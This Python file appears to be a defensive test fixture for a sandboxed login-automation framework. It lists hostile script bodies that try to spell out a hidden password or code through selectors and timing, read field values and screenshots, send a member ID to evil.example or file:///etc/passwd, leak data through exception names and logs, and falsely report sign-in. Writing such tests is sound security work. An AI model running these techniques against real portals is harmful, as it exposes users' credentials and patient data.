"""Hostile scripts that stay inside their walls and attack what they are allowed to talk to: the page and the desk.

Each body is what a script's `sign_in` does, against the real facade and desk. It returns SIGNED_IN when its attack worked
and falls through to LOCKED when it has tried everything; a body that stops for another reason has not attacked.
"""

from dataclasses import dataclass

from carrier_scripts.kit.outcomes import Outcome


@dataclass(frozen=True)
class Facing:
    """One script. `ends`: the outcome that says that it has tried, and failed."""

    name: str
    group: str
    body: str
    ends: Outcome = Outcome.LOCKED
    guarded: bool = True
    """Whether it works as soon as the guards of names and fields are taken away."""


PASSWORD, ANSWER, CODE = "Quartz7-Heron", "Nightjar", "482913"
READ = "Maria_Garcia_W1000042"
"""What the page says of a patient; nothing that the host keeps of a run may say it."""
PRACTICE, SIBLING = "Saguaro Dental PLLC", "Sonoran Dental PLLC"

HEAD = """from carrier_scripts.kit import LoginForm, Outcome, Portal, sees

LETTERS = "quartz7-heonigj482913"


async def told(asking):
    try:
        return await asking
    except Exception as no:
        if type(no).__name__ != "HostRefused": raise
        return None


async def spelled(asks, known=""):
    begun = len(known)
    for _ in range(4):
        for letter in LETTERS:
            if await told(asks(known + letter)):
                known += letter
                break
    return len(known) - begun >= 4


async def shows(page, selector):
    return await page._ask("recognise", {"page": 0, "signs": [["yes", ["sees", selector]]], "but_not": [], "timeout_ms": 0}) == "yes"


async def submitted(page, desk, button="#harmless"):
    await desk.type_username(page.locator("#user"))
    await desk.type_secret(page.locator("#password"))
    await desk.submit_login(page.locator(button))


async def coded(page, desk, field="#code"):
    await submitted(page, desk)
    return await desk.type_code(page.locator(field))


class Hostile(Portal):
    name, hosts, start, home = "Hostile", frozenset({"portal.example"}), "https://portal.example/", "https://portal.example/"
    login = LoginForm("#user", "#password", "#go")
    signs = {Outcome.SIGNED_IN: sees("#who")}

    async def sign_in(self, page, desk):
"""
GOT = "return Outcome.SIGNED_IN"

FACING = [
    # SB10: read a secret back
    Facing("spells_by_the_name_of_a_row", "SB10", f"await submitted(page, desk)\nif await spelled(lambda guess: page.get_by_role('row', name=guess).count(), 'Password '): {GOT}"),
    Facing("spells_by_a_selector_of_a_row", "SB10", f"await submitted(page, desk)\nif await spelled(lambda guess: page.locator(f'role=row[name=/^Password {{guess}}/i]').count()): {GOT}"),
    Facing("spells_by_a_sign", "SB10", f"await submitted(page, desk)\nif await spelled(lambda guess: shows(page, f'role=cell[name=/^{{guess}}/i]')): {GOT}"),
    Facing("spells_by_what_is_there_in_time", "SB10", f"await submitted(page, desk)\nasync def there(guess):\n    await page.get_by_role('row', name=guess).wait_for(timeout=50)\n    return True\nif await spelled(there, 'Password '): {GOT}"),
    Facing("spells_by_a_label_that_holds_the_code", "SB10", f"await coded(page, desk)\nif await spelled(lambda guess: page.get_by_role('textbox', name=guess).count(), 'Memo '): {GOT}"),
    Facing("spells_by_what_the_desk_finds", "SB10", f"await coded(page, desk)\nasync def found(guess):\n    await desk.type_username(page.locator(f'role=textbox[name=/^Memo {{guess}}/i]'))\n    return True\nif await spelled(found): {GOT}"),
    Facing("reads_the_code_where_text_can_be_read", "SB10", f"await told(coded(page, desk, '#note'))\nif '{CODE}' in await page.locator('#note').text_content(): {GOT}"),
    Facing("reads_the_answer_where_text_can_be_read", "SB10", f"await submitted(page, desk)\nawait told(desk.type_answer(page.locator('#question'), page.locator('#note')))\nif '{ANSWER}' in await page.locator('#note').text_content(): {GOT}"),
    Facing("leaves_the_password_in_its_field", "SB10", f"await submitted(page, desk)\nawait page.locator('#mirror').click()\nif 'Quartz' in await page.locator('#mirrored').inner_text(): {GOT}"),
    Facing("has_the_password_shown_before_it_is_typed", "SB10", f"await desk.type_secret(page.locator('#password'))\nawait page.locator('#show').click()\nawait told(desk.submit_login(page.locator('#mirror')))\nif 'Quartz' in await page.locator('#mirrored').inner_text(): {GOT}"),
    Facing("has_the_password_typed_elsewhere", "SB10", f"for field in ('#memo', '#note', '#search'):\n    if await told(desk.type_secret(page.locator(field))) or await told(desk.submit_login(page.locator('#harmless'))): {GOT}", guarded=False),
    Facing("asks_for_the_value", "SB10", f"await submitted(page, desk)\nfor asks in (page.locator('#password').get_attribute('value'), page.locator('#password[value]').count(), page._ask('page', {{'page': 0, 'chain': [['locator', ['#password'], {{}}]], 'act': 'input_value', 'args': [], 'options': {{}}}}), page._ask('page', {{'page': 0, 'chain': [['locator', ['#password'], {{}}]], 'act': 'screenshot', 'args': [], 'options': {{}}}})):\n    if await told(asks): {GOT}", guarded=False),
    # SB11: take it elsewhere
    Facing("goes_abroad_with_it", "SB11", f"found = await page.locator('#member').inner_text()\nfor url in (f'https://evil.example/?{{found}}', 'http://portal.example/', 'javascript:fetch(1)', 'file:///etc/passwd', f'https://portal.example@evil.example/{{found}}'):\n    await told(page.goto(url))\nif 'portal.example' not in await page.url(): {GOT}", guarded=False),
    # SB13: leave it where a maintainer reads it
    Facing("names_a_failure_after_it", "SB13", "found = await page.locator('#member').inner_text()\nraise type(found, (Exception,), {})(found)", Outcome.SCRIPT_FAILED, guarded=False),
    Facing("asks_for_it_by_selector_path_and_sign", "SB13", "found = await page.locator('#member').inner_text()\nawait page.locator(f'#{found}').count()\nawait page.get_by_text(found).count()\nawait told(page.get_by_test_id(found).click(timeout=50))\nawait told(page._ask('page', {'page': 0, 'chain': [['locator', ['#a'], {}]], 'act': found, 'args': [], 'options': {}}))\nawait page._ask('recognise', {'page': 0, 'signs': [[found, ['sees', '#who']]], 'but_not': [], 'timeout_ms': 0})\nawait desk.log(found)\nawait told(page.goto(f'https://portal.example/{found}'))", guarded=False),
    # SB14: a word that is not the script's to say
    Facing("says_that_it_is_signed_in", "SB14", GOT, Outcome.WRONG_PRACTICE, guarded=False),
    Facing("says_whose_page_it_is", "SB14", f"await told(page._ask('confirm_practice', {{'texts': ['{PRACTICE}']}}))\n{GOT}", Outcome.WRONG_PRACTICE, guarded=False),
    Facing("shows_a_hidden_place", "SB14", f"await desk.confirm_practice(page.locator('#hidden'))\n{GOT}", Outcome.WRONG_PRACTICE, guarded=False),
    Facing("leaves_the_page_it_has_shown", "SB14", f"await page.goto('https://portal.example/ours')\nif not await desk.confirm_practice(page.locator('#practice')): return Outcome.LOCKED\nawait page.locator('#theirs').click()\n{GOT}", Outcome.WRONG_PRACTICE, guarded=False),
]  # fmt: skip
